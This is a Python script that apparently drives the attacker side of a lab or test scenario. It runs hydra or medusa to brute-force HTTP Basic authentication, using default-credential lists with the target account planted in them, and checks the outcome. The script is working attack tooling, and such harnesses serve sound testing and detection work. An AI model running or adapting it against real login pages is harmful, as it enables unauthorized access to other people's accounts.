#!/usr/bin/env python3
"""brute-force.py - the workload of the `basic-auth-bruteforce` attacker.

Guesses the credentials of a page protected by HTTP Basic authentication
with hydra or medusa, from a user list and a password list:

1. builds the lists from the default-credential database hydra ships
   (dpl4hydra_local.csv: logins and passwords of routers, cameras and
   appliances), most frequent first: BF_USERS user names drawn from the 40
   most frequent logins and BF_PASSWORDS passwords from the 1200 most
   frequent passwords, with a generator seeded by BF_SEED, keeping their
   order of frequency; the account under attack (BF_USER,
   BF_PASSWORD) is then put into them at the drawn places BF_USER_POS and
   BF_PASSWORD_POS (fractions of the list) - except the part BF_MISS
   names: with BF_MISS=password the password is left out, with
   BF_MISS=user the user name (the attack must then fail);
2. runs the tool against http(s)://BF_SERVER/BF_PATH/ (BF_TLS=on: https):
     hydra   module http-get or http-head (BF_METHOD), BF_TASKS parallel
             tasks, passwords tried user by user or, with BF_LOOP=password,
             each password for every user in turn (-u), the extra guesses
             BF_EXTRA (-e: n empty password, s login as password, r
             reversed login), stopping at the first hit if BF_STOP=yes (-f);
     medusa  module http (https: -s; its threads abort now and then over
             TLS, so the scenario uses hydra there), BF_TASKS threads,
             user agent BF_USER_AGENT
             ("default" keeps medusa's own), stopping at the first hit if
             BF_STOP=yes (-f);
3. checks the outcome: the tool reports exactly the account under attack
   when nothing is missing from the lists (BF_MISS=none), and no account
   otherwise.

Exit 0 when the attack played out as designed (found, or - by design - not
found), 1 otherwise.
"""

import os
import random
import re
import subprocess
import sys
import time

CSV = "/usr/share/hydra/dpl4hydra_local.csv"
USERS = "/tmp/users.txt"
PASSWORDS = "/tmp/passwords.txt"
# Characters a list entry may have: no spaces, quotes or colons (medusa
# and hydra read one entry per line; a colon splits Basic credentials).
ENTRY = re.compile(r"^[A-Za-z0-9._@!#$%&*+=?^~-]{1,32}$")


def fail(msg):
    print(f"brute-force: FAILED: {msg}", file=sys.stderr, flush=True)
    sys.exit(1)


def env(name, default=None):
    v = os.environ.get(name, default)
    if v is None:
        fail(f"{name} must be set")
    return v


def pool(column):
    """Entries of one CSV column, most frequent first (ties by name)."""
    counts = {}
    with open(CSV, encoding="latin-1") as f:
        for line in f:
            cells = line.rstrip("\n").split(",")
            if len(cells) > column:
                v = cells[column].strip()
                if ENTRY.match(v) and "UNKNOWN" not in v.upper():
                    counts[v] = counts.get(v, 0) + 1
    return sorted(counts, key=lambda v: (-counts[v], v))


def draw_list(rng, entries, size, plant, position):
    """`size` entries (the planted one included) in their pool order, with
    `plant` (None: nothing) at the fraction `position` of the list."""
    entries = [e for e in entries if e != plant]
    k = max(0, min(size - (plant is not None), len(entries)))
    chosen = [entries[i] for i in sorted(rng.sample(range(len(entries)), k))]
    if plant is not None:
        chosen.insert(min(int(position * (len(chosen) + 1)), len(chosen)), plant)
    return chosen


def write(path, entries):
    with open(path, "w") as f:
        f.write("".join(e + "\n" for e in entries))


def run(cmd):
    print("brute-force: " + " ".join(cmd), flush=True)
    start = time.time()
    out = subprocess.run(cmd, stdin=subprocess.DEVNULL, capture_output=True, text=True,
                         errors="replace")
    print(out.stdout + out.stderr, flush=True)
    print(f"brute-force: {cmd[0]} exited {out.returncode} after {time.time() - start:.1f} s",
          flush=True)
    return out


def hydra(url_host, tls, path, tasks):
    cmd = ["hydra", "-L", USERS, "-P", PASSWORDS, "-t", str(tasks), "-I"]
    if env("BF_LOOP", "user") == "password":
        cmd.append("-u")
    extra = env("BF_EXTRA", "none")
    if extra != "none":
        cmd += ["-e", extra]
    if env("BF_STOP", "yes") == "yes":
        cmd.append("-f")
    method = env("BF_METHOD", "get")
    module = ("https-" if tls else "http-") + method
    cmd += [url_host, module, path]
    out = run(cmd)
    if out.returncode != 0:
        fail(f"hydra exited {out.returncode}")
    found = set(re.findall(r"\[\d+\]\[[\w-]+\] host: \S+\s+login: (.*?)\s+password: (.*)$",
                           out.stdout, re.M))
    m = re.search(r"(\d+) valid passwords? found", out.stdout)
    if not m:
        fail("hydra did not finish its attack")
    return found


def medusa(url_host, tls, path, tasks):
    cmd = ["medusa", "-h", url_host, "-U", USERS, "-P", PASSWORDS, "-M", "http",
           "-t", str(tasks), "-m", "DIR:" + path.lstrip("/")]
    if tls:
        cmd.append("-s")
    ua = env("BF_USER_AGENT", "default")
    if ua != "default":
        cmd += ["-m", "USER-AGENT:" + ua]
    if env("BF_STOP", "yes") == "yes":
        cmd.append("-f")
    out = run(cmd)
    if out.returncode != 0:
        fail(f"medusa exited {out.returncode}")
    if "ERROR" in out.stdout + out.stderr:
        fail("medusa reported an error")
    return set(re.findall(r"ACCOUNT FOUND: \[http\] Host: \S+ User: (.*?) Password: (.*?) \[SUCCESS\]",
                          out.stdout))


def main():
    tool = env("BF_TOOL")
    server = env("BF_SERVER", "server")
    tls = env("BF_TLS", "off") == "on"
    path = "/" + env("BF_PATH").strip("/") + "/"
    user, password = env("BF_USER"), env("BF_PASSWORD")
    miss = env("BF_MISS", "none")
    if miss not in ("none", "user", "password"):
        fail(f"BF_MISS must be none, user or password, not {miss!r}")
    tasks = int(env("BF_TASKS", "4"))

    rng = random.Random(int(env("BF_SEED")))
    users = draw_list(rng, pool(4)[:40], int(env("BF_USERS")),
                      None if miss == "user" else user, float(env("BF_USER_POS")))
    passwords = draw_list(rng, pool(5)[:1200], int(env("BF_PASSWORDS")),
                          None if miss == "password" else password,
                          float(env("BF_PASSWORD_POS")))
    write(USERS, users)
    write(PASSWORDS, passwords)
    where = lambda xs, x: f"at {xs.index(x) + 1}" if x in xs else "absent"
    print(f"brute-force: {len(users)} user(s) ({', '.join(users)}), {len(passwords)} "
          f"password(s); the user is {where(users, user)}, the password "
          f"{where(passwords, password)}", flush=True)

    if tool == "hydra":
        found = hydra(server, tls, path, tasks)
    elif tool == "medusa":
        found = medusa(server, tls, path, tasks)
    else:
        fail(f"BF_TOOL must be hydra or medusa, not {tool!r}")

    expected = {(user, password)} if miss == "none" else set()
    if found != expected:
        fail(f"{tool} found {sorted(found)}, expected {sorted(expected)}")
    if expected:
        print(f"brute-force: {tool} found the account {user}", flush=True)
    else:
        print(f"brute-force: {tool} found no account, as designed (missing: {miss})", flush=True)


if __name__ == "__main__":
    main()
